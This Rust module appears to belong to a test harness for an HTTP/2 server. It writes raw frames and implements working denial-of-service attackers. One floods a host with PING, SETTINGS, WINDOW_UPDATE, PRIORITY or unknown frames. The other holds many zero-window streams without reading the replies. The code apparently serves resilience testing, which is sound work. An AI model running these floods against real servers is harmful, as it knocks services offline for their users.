//! Attackers that send raw HTTP/2 frames from a separate address.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use crate::client;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
/// A frame type that no specification defines.
const UNKNOWN: u8 = 0xee;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: u16 = 4;

/// Pause before an attacker replaces a closed connection.
const PAUSE: Duration = Duration::from_millis(5);

/// The outcome of an attack: frames or requests sent, and connections that the host closed.
#[derive(Debug, Default, Clone, Copy)]
pub(crate) struct Sent {
    pub(crate) items: usize,
    pub(crate) closed: usize,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request, in HPACK without Huffman coding.
#[derive(Debug, Clone)]
pub(crate) enum HeldRequest {
    Get(&'static str),
    /// With header fields, named in lower case, and a body.
    Post(&'static str, Vec<(&'static str, &'static str)>, String),
    /// The head of a `POST` without its body.
    Head(&'static str),
    /// `GET` with this many fields of one byte each.
    Fields(&'static str, usize),
}

impl HeldRequest {
    /// Returns the frames of the request on this stream.
    fn frames(&self, stream: u32) -> Vec<u8> {
        let (method, path) = match self {
            Self::Get(path) | Self::Fields(path, _) => (0x82, path),
            Self::Post(path, ..) | Self::Head(path) => (0x83, path),
        };
        let mut payload = vec![method, 0x86];
        for (name, value) in [(4, *path), (1, "localhost")] {
            payload.push(name);
            payload.extend(text(value));
        }
        match self {
            Self::Get(_) => {}
            // `accept-encoding: gzip, deflate` in the static table.
            Self::Fields(_, count) => payload.resize(payload.len() + count, 0x80 | 16),
            Self::Head(_) => return frame(HEADERS, END_HEADERS, stream, &payload),
            Self::Post(_, fields, body) => {
                for (name, value) in fields {
                    payload.push(0);
                    payload.extend([text(name), text(value)].concat());
                }
                let mut frames = frame(HEADERS, END_HEADERS, stream, &payload);
                frames.extend(frame(DATA, END_STREAM, stream, body.as_bytes()));
                return frames;
            }
        }
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &payload)
    }
}

/// Encodes a text of fewer than 127 bytes for HPACK.
fn text(text: &str) -> Vec<u8> {
    [&[u8::try_from(text.len()).unwrap_or(0)][..], text.as_bytes()].concat()
}

fn open(address: SocketAddr, window: Option<u32>) -> Option<TcpStream> {
    let mut stream = client::socket_from_elsewhere(address).ok()?;
    stream.set_write_timeout(Some(Duration::from_millis(200))).ok()?;
    let setting = window.map(|bytes| [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &bytes.to_be_bytes()].concat());
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &setting.unwrap_or_default())].concat()).ok()?;
    Some(stream)
}

/// Sends the same frame repeatedly, as fast as the host accepts it. Closed connections are
/// replaced.
pub(crate) fn flood(address: SocketAddr, kind: Flood, ending: &AtomicBool) -> Sent {
    let one = match kind {
        Flood::Pongs => frame(PING, 1, 0, &[7; 8]),
        Flood::Settings => frame(SETTINGS, 0, 0, &[]),
        Flood::Windows => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        Flood::Priorities => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
        Flood::Unknown => frame(UNKNOWN, 0, 0, &[]),
    };
    let (many, mut sent) = (one.repeat(512), Sent::default());
    while !ending.load(Ordering::Relaxed) {
        let Some(mut stream) = open(address, None) else {
            thread::sleep(PAUSE);
            continue;
        };
        if let Ok(mut answers) = stream.try_clone() {
            // Read the host's answers, so that they do not block the attack.
            thread::spawn(move || while answers.read(&mut [0; 16 << 10]).is_ok_and(|read| read > 0) {});
        }
        while !ending.load(Ordering::Relaxed) {
            if stream.write_all(&many).is_err() {
                sent.closed += 1;
                thread::sleep(PAUSE);
                break;
            }
            sent.items += 512;
        }
        _ = stream.shutdown(std::net::Shutdown::Both);
    }
    sent
}

/// The frames of a flood.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Flood {
    /// `PING` frames with `ACK`, which answer nothing.
    Pongs,
    Settings,
    /// `WINDOW_UPDATE` of the connection, by one byte.
    Windows,
    /// `PRIORITY` of a stream that was never opened.
    Priorities,
    /// Frames that the host must ignore.
    Unknown,
}

/// Sends this request `pace` times per second and reads no answers. Each connection has 80 streams.
pub(crate) fn hoard(address: SocketAddr, request: &HeldRequest, pace: f64, ending: &AtomicBool) -> Sent {
    let (started, mut sent, mut held) = (Instant::now(), Sent::default(), vec![]);
    let mut on_one = u32::MAX;
    while !ending.load(Ordering::Relaxed) {
        let due = Duration::from_secs_f64(sent.items as f64 / pace);
        thread::sleep(due.saturating_sub(started.elapsed()).min(Duration::from_millis(50)));
        if started.elapsed() < due {
            continue;
        }
        if on_one >= 80 {
            let Some(stream) = open(address, Some(0)) else {
                thread::sleep(PAUSE);
                continue;
            };
            held.push(stream);
            on_one = 0;
        }
        let Some(stream) = held.last_mut() else { continue };
        sent.items += 1;
        if stream.write_all(&request.frames(2 * on_one + 1)).is_err() {
            sent.closed += 1;
            on_one = u32::MAX;
            continue;
        }
        on_one += 1;
    }
    sent
}
